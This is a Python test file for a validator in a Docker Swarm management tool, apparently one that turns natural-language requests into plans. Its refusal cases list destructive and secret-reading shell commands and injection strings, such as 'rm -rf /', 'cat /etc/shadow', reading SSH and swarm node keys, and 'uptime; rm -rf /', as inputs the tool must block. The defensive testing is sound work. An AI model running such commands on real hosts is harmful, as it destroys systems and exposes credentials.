"""The one validator every plan passes through, on the recorded incident."""

from __future__ import annotations

import pytest

from swarmtui.actions.plan import Plan, Step
from swarmtui.actions.validate import check_command, check_step, first_problem
from tests.conftest import state_from


@pytest.mark.parametrize(
    ("action", "params", "problem"),
    [
        ("service.explode", {"service": "shop_web"}, "unknown action"),
        ("service.scale", {"service": "shop_web", "replicas": 2, "force": True},
         "unknown parameter 'force'"),
        ("service.scale", {"service": "shop_web"}, "missing 'replicas'"),
        ("service.scale", {"service": "nginx", "replicas": 2}, "no service named 'nginx'"),
        ("service.scale", {"service": "shop_web", "replicas": -1}, "whole number"),
        ("service.scale", {"service": "shop_web", "replicas": True}, "whole number"),
        ("service.scale", {"service": "swarmpit_agent", "replicas": 3}, "global service"),
        ("service.scale", {"service": "backup", "replicas": 3}, "replicated job"),
        ("service.scale", {"service": "shop_web", "replicas": 3}, "already has 3 replicas"),
        ("service.update_image", {"service": "shop_web", "image": "--privileged"},
         "starts with '-'"),
        ("service.update_image", {"service": "shop_web", "image": "lab/busybox:1.35"},
         "already runs"),
        ("service.update_image", {"service": "shop_web", "image": "not an image"},
         "not an image reference"),
        ("node.pause", {"node": "worker-3"}, "already pause"),
        ("node.activate", {"node": "worker-1"}, "already active"),
        ("node.drain", {"node": "worker-9"}, "no node named 'worker-9'"),
        ("node.promote", {"node": "pop-os"}, "already a manager"),
        ("node.demote", {"node": "pop-os"}, "only manager"),
        ("node.demote", {"node": "worker-1"}, "not a manager"),
        ("node.label_add", {"node": "worker-1", "key": "db", "value": "true"}, "already has"),
        ("node.label_remove", {"node": "worker-2", "key": "gpu"}, "no label 'gpu'"),
        ("node.probe", {"node": "worker-2", "probe": "cpu"}, "must be one of"),
        ("view.logs", {"service": "shop_api", "since": "yesterday"}, "duration"),
        ("ssh.run", {"node": "worker-2", "command": "uptime; rm -rf /"}, "shell syntax"),
        ("ssh.run", {"node": "worker-2", "command": "cat $(secret)"}, "shell syntax"),
        ("ssh.run", {"node": "worker-2", "command": "echo 'unclosed"}, "does not parse"),
        ("ssh.run", {"node": "worker-2", "command": "rm -rf /var/lib/docker"}, "'rm' can stop"),
        ("ssh.run", {"node": "worker-2", "command": "/sbin/reboot"}, "'reboot' can stop"),
        ("ssh.run", {"node": "worker-2", "command": "sudo shutdown now"}, "sudo runs other"),
        ("ssh.run", {"node": "worker-2", "command": "docker swarm leave --force"},
         "`docker swarm leave` changes"),
        ("ssh.run", {"node": "worker-2", "command": "systemctl stop docker"},
         "`systemctl stop` changes"),
        ("ssh.run", {"node": "worker-2", "command": "python3 -c 'import os'"}, "runs other"),
        ("ssh.run", {"node": "worker-2", "command": "iptables -F"}, "`iptables -F` changes"),
        ("ssh.run", {"node": "worker-2", "command": "systemd-run reboot"}, "runs other"),
        ("ssh.run", {"node": "worker-2", "command": "ip link set eth0 down"}, "`ip link set`"),
        ("ssh.run", {"node": "worker-2", "command": "find / -delete"}, "`find / -delete`"),
        ("ssh.run", {"node": "worker-2", "command": "rm /etc/passwd"}, "'rm' can stop"),
        ("ssh.run", {"node": "worker-2", "command": "umount -l /"}, "'umount' can stop"),
        ("ssh.run", {"node": "worker-2", "command": "apt-get remove -y docker.io"},
         "`apt-get remove`"),
        ("ssh.run", {"node": "worker-2", "command": "sed -i.bak d /etc/fstab"}, "`sed -i`"),
        ("service.update_env", {"service": "shop_api", "set": {"BAD NAME": "x"}},
         "not a variable name"),
        ("service.update_env", {"service": "shop_api", "unset": ["LOG_LEVEL"]},
         "nothing would change"),
        ("service.update_env", {"service": "shop_api", "set": {
            "DATABASE_URL": "postgres://shop:placeholder@postgres:5432/shop"}},
         "nothing would change"),
    ],
)
def test_bad_steps_are_refused_with_their_reason(incident, action, params, problem):
    check = check_step(Step(action, params), state_from(incident))
    assert not check.ok
    assert problem in check.problem


@pytest.mark.parametrize(
    ("action", "params"),
    [
        ("service.scale", {"service": "shop_web", "replicas": 5}),
        ("service.scale", {"service": "shop_web", "replicas": 0}),
        ("service.update_image", {"service": "shop_web", "image": "lab/busybox:1.36"}),
        ("service.rollback", {"service": "shop_api"}),
        ("service.restart", {"service": "shop_worker"}),
        ("service.update_env", {"service": "shop_api", "set": {"LOG_LEVEL": "debug"}}),
        ("service.update_env", {"service": "shop_api", "unset": ["DATABASE_URL"]}),
        ("service.remove", {"service": "shop_analytics"}),
        ("node.drain", {"node": "worker-2"}),
        ("node.activate", {"node": "worker-3"}),
        ("node.promote", {"node": "worker-1"}),
        ("node.label_add", {"node": "worker-2", "key": "gpu", "value": "true"}),
        ("node.label_remove", {"node": "worker-1", "key": "db"}),
        ("node.probe", {"node": "worker-2", "probe": "disk"}),
        ("ssh.run", {"node": "pop-os", "command": "df -h /var/lib/docker"}),
        ("ssh.run", {"node": "pop-os", "command": "systemctl status docker"}),
        ("ssh.run", {"node": "pop-os", "command": "journalctl -u docker -n 50"}),
        ("ssh.run", {"node": "pop-os", "command": "head -n 5 /etc/hosts"}),
        ("ssh.run", {"node": "pop-os", "command": "ip addr"}),
        ("ssh.run", {"node": "pop-os", "command": "docker ps -a"}),
        ("ssh.run", {"node": "pop-os", "command": "iptables -L -n"}),
        ("ssh.run", {"node": "pop-os", "command": "journalctl -u docker -n 50"}),
        ("view.logs", {"service": "shop_api", "grep": "error", "since": "10m"}),
        ("query.services", {"state": "degraded"}),
        ("backup.create", {}),
    ],
)
def test_good_steps_pass(incident, action, params):
    check = check_step(Step(action, params), state_from(incident))
    assert check.ok, check.problem


def test_a_plan_reports_its_first_bad_step_by_number(incident):
    plan = Plan((Step("node.drain", {"node": "worker-2"}),
                 Step("service.scale", {"service": "web", "replicas": 4})))
    assert first_problem(plan, state_from(incident)) == \
        "step 2 (service.scale): no service named 'web'"


def test_each_destructive_target_must_be_typed_one_name_never_confirms_another(incident):
    from swarmtui.actions.preview import confirmation_needed, preview
    from swarmtui.nl.offline import OfflineTranslator

    state = state_from(incident)
    plan = OfflineTranslator().translate("remove web and remove api", state)
    assert [s.action for s in plan.steps] == ["service.remove", "service.remove"]
    assert confirmation_needed(preview(plan, state)) == "shop_web shop_api"
    one = OfflineTranslator().translate("remove web", state)
    assert confirmation_needed(preview(one, state)) == "shop_web"
    assert confirmation_needed(preview(OfflineTranslator().translate("scale web to 5", state),
                                       state)) == "y"


def test_an_unexpected_error_is_one_line_and_its_traceback_is_kept(tmp_path, monkeypatch,
                                                                   capsys):
    from swarmtui import cli
    from swarmtui.commands import status

    def broken(_args):
        raise RuntimeError("something nobody planned for\x1b[2J")

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    monkeypatch.setattr(status, "run", broken)
    assert cli.main(["status"]) == 70
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err and "\x1b" not in err
    assert "unexpected error: RuntimeError: something nobody planned for" in err
    log = tmp_path / "swarmtui" / "crash.log"
    assert f"details in {log}" in err
    assert "Traceback" in log.read_text() and oct(log.stat().st_mode & 0o777) == "0o600"


def test_an_undo_is_described_by_what_it_puts_back(incident):
    from swarmtui.actions.undo import UndoRecord, describe_undo

    state = state_from(incident)
    api = state.service_named("shop_api")
    now = dict(api.spec)
    then = {**now, "Mode": {"Replicated": {"Replicas": 5}}, "TaskTemplate": {
        **now["TaskTemplate"], "ContainerSpec": {**now["TaskTemplate"]["ContainerSpec"],
                                                 "Env": ["LOG_LEVEL=debug"]}}}
    record = UndoRecord("service-update", api.id, "shop_api", then, "restore shop_api")
    summary, command, change = describe_undo(record, now)
    assert change == "replicas 2 → 5, +LOG_LEVEL, -DATABASE_URL"  # names, never values
    assert "placeholder" not in summary + command + change
    gone = UndoRecord("service-create", api.id, "shop_api", now, "re-create shop_api")
    assert describe_undo(gone, None)[2].startswith("shop_api comes back: image lab/busybox")
    ssh = UndoRecord("irreversible", "", "worker-1", {}, "`hostname` on worker-1")
    assert "cannot be undone" in describe_undo(ssh, None)[0]


def test_scaling_to_zero_is_high_risk_not_low(incident):
    from swarmtui.actions.preview import confirmation_needed, preview

    state = state_from(incident)
    stop = preview(Plan((Step("service.scale", {"service": "shop_web", "replicas": 0}),)), state)
    assert stop[0].risk == "high" and confirmation_needed(stop) == "y"
    more = preview(Plan((Step("service.scale", {"service": "shop_web", "replicas": 4}),)), state)
    assert more[0].risk == "low"


def test_later_steps_cannot_act_on_a_service_an_earlier_step_removes(incident):
    from swarmtui.actions.validate import validate

    state = state_from(incident)
    plan = Plan((Step("service.remove", {"service": "shop_web"}),
                 Step("service.scale", {"service": "shop_web", "replicas": 2}),
                 Step("service.remove", {"service": "shop_web"}),
                 Step("service.restart", {"service": "shop_api"})))
    checks = validate(plan, state)
    assert [c.ok for c in checks] == [True, False, False, True]
    assert checks[1].problem == "shop_web is removed by step 1 before this"
    both = check_step(Step("service.update_env", {"service": "shop_api", "set": {"A": "1"},
                                                  "unset": ["A"]}), state)
    assert both.problem == "A would be both set and unset"
    assert not check_step(Step("node.label_add", {"node": "worker-1", "key": "gpu\n",
                                                  "value": "x"}), state).ok


def test_a_question_counts_its_rows_and_its_progress_says_reading(tmp_path):
    from swarmtui.actions.audit import AuditLog
    from swarmtui.actions.execute import Executor
    from swarmtui.actions.read import services_matching
    from swarmtui.swarm.recorded import RecordedSource
    from tests.conftest import INCIDENT

    executor = Executor(RecordedSource(INCIDENT), audit=AuditLog(tmp_path / "audit.jsonl"))
    said: list[str] = []
    result = executor.run(Plan((Step("query.services", {"state": "degraded"}),)),
                          progress=lambda _step, what: said.append(what))
    degraded = services_matching(executor.state(), "degraded")
    assert len(degraded) >= 2  # the incident has several, each with a reason line below
    assert result.ok and result.results[0].message == f"{len(degraded)} found"
    assert said == ["reading", "done"]


def _rejoined(incident) -> tuple[dict, str, str]:
    """The recording with worker-1 rebuilt: its old entry stays, down, under its name."""
    import copy

    live = next(n for n in incident["nodes"] if n["Description"]["Hostname"] == "worker-1")
    old = copy.deepcopy(live)
    old["ID"] = "oldnode0000000000000000000"
    old["Status"] = {"State": "down", "Addr": "10.77.0.99"}
    incident["nodes"].insert(0, old)
    return incident, old["ID"], live["ID"]


def test_a_hostname_two_nodes_share_is_refused_and_an_id_names_one(incident):
    from swarmtui.actions.preview import preview
    from swarmtui.alerts.rules import node_rules
    from swarmtui.nl.offline import OfflineTranslator

    data, old, live = _rejoined(incident)
    state = state_from(data)
    assert state.node_named("worker-1") is None and len(state.nodes_named("worker-1")) == 2
    problem = check_step(Step("node.drain", {"node": "worker-1"}), state).problem
    assert problem is not None and old[:12] in problem and live[:12] in problem
    assert "ID" in problem  # says how to name the one meant
    plan = OfflineTranslator().translate(f"drain {live[:12]}", state)
    assert [dict(s.params) for s in plan.steps] == [{"node": live}]
    (step,) = preview(plan, state)
    assert step.problem is None and step.summary.startswith(f"drain worker-1 ({live[:12]})")
    assert step.command.endswith(f"drain {live}")
    assert "3 tasks move, 3 global tasks stop" in step.change
    # the dead entry's alert is keyed by its ID, so its remedy drains that node and no other
    down = [f for f in node_rules(state, _rules()) if f.rule == "node-down"]
    assert [f.subject for f in down] == [old]
    assert state.node_ref(state.node(old)) == old
    assert state.node_ref(state.node_named("pop-os")) == "pop-os"


def _rules():
    from swarmtui.alerts.rules import user_rules

    return user_rules().rules


@pytest.mark.parametrize("command", [
    "nmcli networking off", "firewall-cmd --panic-on", "ufw enable", "ethtool -s eth0 autoneg off",
    "kexec -e", "systemctl kexec", "tmux new reboot", "screen reboot",
    "wget -O /etc/passwd http://example.invalid", "curl -o /usr/bin/docker http://e.invalid",
    "curl -sSo /usr/bin/docker http://e.invalid", "tar -xf x -C /", "fallocate -l 100G /big",
    "journalctl --vacuum-size=1", "date -s 2000-01-01", "date 010100002000", "hostname evil",
    "loginctl terminate-user root", "docker compose down", "ctr task kill x", "runc kill x",
    "docker swarm ca --rotate", "docker swarm unlock-key", "docker swarm join-token manager",
    "docker service update --force shop_web", "vi /etc/hosts", "nano x", "ed x", "less x",
    "man ls", "top", "sed -n 1e/bin/sh x", "tc qdisc add dev eth0 root netem loss 100%",
    "ss -K dst 10.0.0.1", "dmesg -C", "ip netns exec x ls", "iptables -t nat -n",
    "cat /var/lib/docker/swarm/certificates/swarm-node.key", "cat /etc/shadow",
    "curl file:///etc/shadow", "cat /root/.ssh/id_ed25519",
    "cat /etc/ssh/ssh_host_ed25519_key", "tail -n 100 /srv/keys/id_rsa", "cat key.json",
    "grep -r PRIVATE /", "grep -rn password /etc", "cat /proc/1/environ", "cat /app/.env",
])
def test_ssh_run_runs_only_commands_that_look(command):
    problem = check_command(command)
    assert problem is not None
    assert any(reason in problem for reason in (
        "your own SSH session", "runs other programs", "top -b", "secrets")), problem


@pytest.mark.parametrize("command", [
    "uptime", "df -h /var/lib/docker", "free -m", "docker ps -a", "docker service ps shop_web",
    "docker node ls", "docker stats --no-stream", "journalctl -u docker -n 50 --no-pager",
    "systemctl status docker --no-pager", "systemctl", "ip addr", "ip -s link", "ss -tlnp",
    "top -b -n 1", "top -bn1", "iptables -L -n", "iptables -t nat -S", "cat /etc/os-release",
    "curl -s http://localhost:8080/health", "ping -c1 worker-2", "dmesg -T", "date +%s",
    "hostname", "lsblk", "tail -n 20 /var/log/syslog",
])
def test_ssh_run_accepts_what_operators_look_with(command):
    assert check_command(command) is None


@pytest.mark.parametrize(("sentence", "node", "command"), [
    ("run ping -c1 worker-2 on the manager", "pop-os", "ping -c1 worker-2"),
    ("on worker-2 run ping worker-1", "worker-2", "ping worker-1"),
    ("ssh worker-1 and run ping -c 1 worker-2", "worker-1", "ping -c 1 worker-2"),
    ("run docker logs --tail 5 abc on worker-1", "worker-1", "docker logs --tail 5 abc"),
])
def test_the_node_a_command_runs_on_is_the_one_after_on_not_one_in_its_words(
        incident, sentence, node, command):
    from swarmtui.nl.offline import OfflineTranslator

    plan = OfflineTranslator().translate(sentence, state_from(incident))
    assert [dict(s.params) for s in plan.steps] == [{"node": node, "command": command}], \
        plan.clarify


def test_a_refused_command_is_refused_as_a_command_not_read_as_another_request(incident):
    from swarmtui.nl.offline import OfflineTranslator

    for sentence in ("run rm -fr /var on worker-1",
                     "run tc qdisc add dev eth0 root netem loss 100% on worker-1"):
        plan = OfflineTranslator().translate(sentence, state_from(incident))
        assert plan.asks_back and plan.clarify.startswith("I won't run"), plan.clarify


def test_a_nodes_output_reaches_the_jobs_view_with_its_secrets_masked(tmp_path):
    from swarmtui.actions.audit import AuditLog
    from swarmtui.actions.execute import Executor
    from swarmtui.actions.ssh import SSHResult
    from swarmtui.swarm.recorded import RecordedSource
    from tests.conftest import INCIDENT

    class Node:  # a node that answers with a service's environment
        def run(self, node, argv, on_line, cancel, terminal=False):
            out = ['"Env": ["DB_PASSWORD=hunter2", "LOG_LEVEL=debug"]',
                   "-----BEGIN OPENSSH PRIVATE KEY-----", "b3BlbnNzaC1rZXktdjEAAAAA",
                   "-----END OPENSSH PRIVATE KEY-----", "after"]
            for line in out if on_line else ():
                on_line("stdout", line)
            return SSHResult(node.name, " ".join(argv), 0, "\n".join(out) + "\n", "")

    executor = Executor(RecordedSource(INCIDENT), audit=AuditLog(tmp_path / "audit.jsonl"),
                        ssh=Node())
    seen: list[str] = []
    result = executor.run(Plan((Step("ssh.run", {"node": "worker-1",
                                                 "command": "docker service inspect shop_web"}),)),
                          output=lambda _step, line: seen.append(line))
    assert result.ok, result.summary
    assert "hunter2" not in "".join(seen) + result.results[0].output
    assert "LOG_LEVEL=debug" in seen[0]
    assert "b3BlbnNzaC1rZXktdjEAAAAA" not in "".join(seen) + result.results[0].output
    assert seen[-1] == "after"  # the key's body only


def test_a_slip_in_a_replica_count_is_asked_about_refused_or_high_risk(incident):
    from swarmtui.actions.catalog import Risk, step_risk
    from swarmtui.nl.offline import OfflineTranslator

    state = state_from(incident)
    for sentence in ("scale web to 4.9", "scale web to 1e9", "scale web up by 2.5"):
        plan = OfflineTranslator().translate(sentence, state)
        assert plan.asks_back and "whole number" in plan.clarify, sentence
    huge = Step("service.scale", {"service": "shop_web", "replicas": 10**9})
    assert "scale in steps" in (check_step(huge, state).problem or "")
    assert check_step(Step("service.scale", {"service": "shop_web", "replicas": 1000}),
                      state).ok
    assert step_risk("service.scale", {"service": "shop_web", "replicas": 150}) is Risk.HIGH
    assert step_risk("service.scale", {"service": "shop_web", "replicas": 4}) is Risk.LOW


def test_each_step_is_checked_and_previewed_as_the_steps_before_leave_the_cluster(incident):
    from swarmtui.actions.preview import preview
    from swarmtui.nl.offline import OfflineTranslator

    state = state_from(incident)

    def shown(sentence: str) -> list[tuple[str, str | None]]:
        plan = OfflineTranslator().translate(sentence, state)
        assert not plan.asks_back, plan.clarify
        return [(p.change, p.problem) for p in preview(plan, state)]

    assert shown("drain worker-2, then bring it back") == [
        ("availability active → drain, 3 tasks move, 3 global tasks stop", None),
        ("availability drain → active", None)]
    assert shown("scale web to 4 and then scale it to 5")[1] == ("replicas 4 → 5", None)
    assert shown("promote worker-1 and demote pop-os") == [
        ("role worker → manager", None), ("role manager → worker", None)]
    drains = shown("drain pop-os, worker-1 and worker-2")  # worker-3 is paused
    assert [problem for _, problem in drains][:2] == [None, None]
    assert "last active node" in (drains[2][1] or "")
    # and a step that would act alone on what an earlier one undid is a no-op, refused
    assert "already active" in (shown("drain worker-2, activate worker-2, activate worker-2"
                                      )[2][1] or "")


def test_a_node_change_that_leaves_a_service_nowhere_to_run_says_so_at_high_risk(incident):
    from swarmtui.actions.catalog import Risk
    from swarmtui.actions.preview import preview
    from swarmtui.nl.offline import OfflineTranslator

    state = state_from(incident)  # shop_postgres wants node.labels.db == true: worker-1 only

    def shown(sentence: str):
        (item,) = preview(OfflineTranslator().translate(sentence, state), state)
        return item.risk, item.change

    for sentence in ("remove label db from worker-1", "label worker-1 db=false",
                     "drain worker-1"):
        risk, change = shown(sentence)
        assert risk is Risk.HIGH and "shop_postgres can run on no other node" in change
    risk, change = shown("drain worker-2")
    assert "no other node" not in change
    risk, change = shown("add label gpu=true to worker-2")  # shop_analytics may start: fine
    assert risk is Risk.LOW and "no other node" not in change


@pytest.mark.parametrize(("sentence", "replicas"), [
    ("scale web to 4 and then double it", [4, 8]),
    ("scale web up by 2, then double it", [5, 10]),
    ("scale web to 4, then to 5", [4, 5]),
])
def test_a_later_step_counts_from_what_the_step_before_it_set(incident, sentence, replicas):
    from swarmtui.nl.offline import OfflineTranslator

    plan = OfflineTranslator().translate(sentence, state_from(incident))
    assert [s.params.get("replicas") for s in plan.steps] == replicas, plan.clarify


def test_a_step_interrupted_by_ctrl_c_is_still_audited(tmp_path):
    import json

    from swarmtui.actions.audit import AuditLog
    from swarmtui.actions.execute import Executor
    from swarmtui.swarm.recorded import RecordedSource
    from tests.conftest import INCIDENT

    executor = Executor(RecordedSource(INCIDENT), audit=AuditLog(tmp_path / "audit.jsonl"))

    def ctrl_c(_step, _what):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        executor.run(Plan((Step("query.services", {}),), sentence="what runs"),
                     progress=ctrl_c)
    (record,) = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert record["action"] == "query.services" and record["ok"] is False
    assert "interrupted" in record["result"]
